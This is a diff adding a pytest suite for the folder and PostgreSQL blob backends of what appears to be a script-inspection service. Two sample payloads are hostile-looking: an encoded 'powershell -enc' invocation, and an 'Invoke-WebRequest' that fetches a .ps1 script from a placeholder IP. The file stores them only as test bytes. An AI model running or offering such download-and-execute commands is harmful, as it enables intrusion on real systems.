@@ -1,0 +1,171 @@
+"""Every blob backend keeps the same contract: the folder (default) and the PostgreSQL `blobs` table.
+
+The suite runs once per backend; the database backend needs the PostgreSQL server (skipped
+with the reason when it does not answer). SQLite is not a database-backend target.
+"""
+
+from __future__ import annotations
+
+import hashlib
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+import sqlalchemy as sa
+
+from inspector.config import Settings
+from inspector.store import BlobError, Store
+from inspector.store.blob_backends import (
+    BlobBackendError,
+    DatabaseBlobBackend,
+    FolderBlobBackend,
+    blobs_table,
+)
+from inspector.store.schema import payloads
+from inspector.store.testing import blobs_of, make_verdict, postgres_unreachable_reason, temporary_store
+
+
+def _sha(data: bytes) -> str:
+    return hashlib.sha256(data).hexdigest()
+
+
+@pytest.fixture(params=["folder", pytest.param("database", marks=pytest.mark.postgres)])
+def blob_backend(request: pytest.FixtureRequest) -> str:
+    if request.param == "database" and (reason := postgres_unreachable_reason()):
+        pytest.skip(reason)
+    return request.param  # type: ignore[no-any-return]
+
+
+@asynccontextmanager
+async def _store(blob_backend: str, tmp_path: Path, **overrides: Any) -> AsyncIterator[Store]:
+    """The folder backend beside SQLite; the database backend in a private PostgreSQL schema."""
+    database = "postgres" if blob_backend == "database" else "sqlite"
+    async with temporary_store(database, tmp_path, blob_backend=blob_backend, **overrides) as store:
+        yield store
+
+
+@pytest.fixture
+async def store(blob_backend: str, tmp_path: Path) -> AsyncIterator[Store]:
+    async with _store(blob_backend, tmp_path) as opened:
+        yield opened
+
+
+async def _save(store: Store, inspection_id: str, data: bytes, days_ago: float = 0) -> None:
+    await store.create_inspection(inspection_id, "script", {}, None, None)
+    await store.save_verdict(inspection_id, make_verdict(inspection_id, [data]), blobs_of([data]))
+    async with store.engine.begin() as conn:
+        await conn.execute(payloads.update().where(payloads.c.sha256 == _sha(data))
+                           .values(last_seen=datetime.now(UTC) - timedelta(days=days_ago)))
+
+
+def test_the_setting_picks_the_backend(blob_backend: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("INSPECTOR_BLOB_BACKEND", blob_backend)
+    assert Settings(data_dir=tmp_path).blob_backend == blob_backend
+
+
+async def test_the_store_opens_the_configured_backend(store: Store, blob_backend: str) -> None:
+    expected = DatabaseBlobBackend if blob_backend == "database" else FolderBlobBackend
+    assert isinstance(store.blobs, expected) and store.blobs.name == blob_backend
+
+
+async def test_bytes_round_trip_once_per_content(store: Store) -> None:
+    data = b"powershell -enc SQBFAFgA"
+    assert await store.blobs.exists(_sha(data)) is False
+    assert await store.blobs.put(_sha(data), data) is True
+    assert await store.blobs.put(_sha(data), data) is False  # already stored: nothing rewritten
+    assert await store.blobs.get(_sha(data)) == data and await store.blobs.exists(_sha(data))
+    assert await store.blobs.delete(_sha(data)) == len(data)
+    assert await store.blobs.get(_sha(data)) is None
+    assert await store.blobs.delete(_sha(data)) == 0
+
+
+async def test_the_synchronous_core_sees_the_same_blobs(store: Store) -> None:
+    """Rescan worker processes read with the sync calls what the service wrote with the async ones."""
+    written_async, written_sync = b"from the service", b"from a worker"
+    await store.blobs.put(_sha(written_async), written_async)
+    assert store.blobs.get_sync(_sha(written_async)) == written_async
+    assert store.blobs.put_sync(_sha(written_sync), written_sync) is True
+    assert store.blobs.put_sync(_sha(written_sync), written_sync) is False
+    assert store.blobs.exists_sync(_sha(written_sync))
+    assert await store.blobs.get(_sha(written_sync)) == written_sync
+    store.blobs.close()  # a closed sync side reopens on its next call
+    assert store.blobs.delete_sync(_sha(written_sync)) == len(written_sync)
+    assert store.blobs.get_sync(_sha(written_sync)) is None and not store.blobs.exists_sync(_sha(written_sync))
+
+
+async def test_empty_and_binary_content_survive_intact(store: Store) -> None:
+    binary = bytes(range(256)) * 64 + b"\x00"
+    for data in (b"", binary):
+        await store.blobs.put(_sha(data), data)
+        assert await store.blobs.get(_sha(data)) == data
+        assert store.blobs.get_sync(_sha(data)) == data
+
+
+async def test_a_key_that_does_not_match_the_content_is_refused(store: Store) -> None:
+    with pytest.raises(BlobError, match="does not match"):
+        await store.blobs.put(_sha(b"claimed"), b"actual")
+    with pytest.raises(BlobError, match="does not match"):
+        store.blobs.put_sync(_sha(b"claimed"), b"actual")
+    assert await store.blobs.get(_sha(b"claimed")) is None and await store.blobs.get(_sha(b"actual")) is None
+
+
+@pytest.mark.parametrize("bad", ["", "ABC", "g" * 64, "A" * 64, "../" + "a" * 61])
+async def test_malformed_keys_are_refused_everywhere(store: Store, bad: str) -> None:
+    with pytest.raises(BlobError, match="sha256"):
+        await store.blobs.get(bad)
+    with pytest.raises(BlobError, match="sha256"):
+        await store.blobs.delete(bad)
+    with pytest.raises(BlobError, match="sha256"):
+        store.blobs.exists_sync(bad)
+
+
+async def test_inventory_lists_every_blob_with_its_size_and_age(store: Store) -> None:
+    before = datetime.now(UTC) - timedelta(seconds=5)
+    await store.blobs.put(_sha(b"one"), b"one")
+    store.blobs.put_sync(_sha(b"three"), b"three")
+    inventory = await store.blobs.inventory()
+    assert {sha: entry.size for sha, entry in inventory.items()} == {_sha(b"one"): 3, _sha(b"three"): 5}
+    assert all(before <= entry.stored_at <= datetime.now(UTC) + timedelta(seconds=5) for entry in inventory.values())
+
+
+async def test_verdicts_store_their_bytes_in_the_backend(store: Store) -> None:
+    await _save(store, "i1", b"Invoke-WebRequest http://203.0.113.7/x.ps1")
+    assert await store.get_blob(_sha(b"Invoke-WebRequest http://203.0.113.7/x.ps1")) is not None
+    info = await store.get_payload(_sha(b"Invoke-WebRequest http://203.0.113.7/x.ps1"))
+    assert info is not None and info.blob_available
+
+
+async def test_retention_by_age_and_size_frees_backend_bytes(blob_backend: str, tmp_path: Path) -> None:
+    async with _store(blob_backend, tmp_path, retention_days=30, retention_max_bytes=150) as store:
+        await _save(store, "ancient", b"A" * 100, days_ago=40)
+        await _save(store, "older", b"B" * 100, days_ago=5)
+        await _save(store, "newest", b"C" * 100, days_ago=1)
+        report = await store.apply_retention()
+        assert report.expired_payloads == 2 and report.freed_bytes == 200 and report.blob_bytes_kept == 100
+        assert await store.get_blob(_sha(b"A" * 100)) is None and await store.get_blob(_sha(b"B" * 100)) is None
+        assert await store.get_blob(_sha(b"C" * 100)) == b"C" * 100
+        stored = await store.get_inspection("ancient")
+        assert stored is not None and stored.verdict is not None  # verdict history stays
+
+
+async def test_unreferenced_blobs_are_swept_only_after_the_grace_period(store: Store) -> None:
+    stray, kept = b"written, then its transaction failed", b"referenced by a verdict"
+    store.blobs.put_sync(_sha(stray), stray)
+    await _save(store, "kept", kept)
+    assert (await store.apply_retention()).orphan_blobs_removed == 0  # too young: maybe being saved now
+    report = await store.apply_retention(now=datetime.now(UTC) + timedelta(hours=2))
+    assert report.orphan_blobs_removed == 1 and report.blob_bytes_kept == len(kept)
+    assert await store.blobs.get(_sha(stray)) is None and await store.blobs.get(_sha(kept)) == kept
+
+
+async def test_the_blobs_table_exists_on_every_database(store: Store) -> None:
+    async with store.engine.connect() as conn:
+        assert await conn.scalar(sa.select(sa.func.count()).select_from(blobs_table)) == 0
+
+
+async def test_the_database_backend_refuses_sqlite_clearly(tmp_path: Path) -> None:
+    with pytest.raises(BlobBackendError, match="needs a PostgreSQL database_url"):
+        await Store.open(Settings(data_dir=tmp_path, blob_backend="database"))
